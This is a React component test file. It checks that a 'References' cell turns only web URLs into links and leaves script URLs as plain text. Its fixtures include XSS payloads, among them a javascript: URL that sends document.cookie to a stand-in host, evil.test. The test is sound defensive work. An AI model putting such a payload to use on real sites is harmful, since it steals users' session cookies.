import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { References } from './ResultCell.tsx';

describe('References cell', () => {
  it('links web references only; script and data URLs stay plain text', () => {
    const references = [
      'https://doi.org/10.1/quartz',
      'javascript:fetch("//evil.test/?"+document.cookie)',
      '\u0001 javascript:alert(1)',
      'vbscript:msgbox(1)',
    ];
    render(<References row={{ references }} />);
    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://doi.org/10.1/quartz',
    ]);
    expect(screen.getByText(/vbscript:msgbox\(1\)/)).toBeInTheDocument();
  });
});
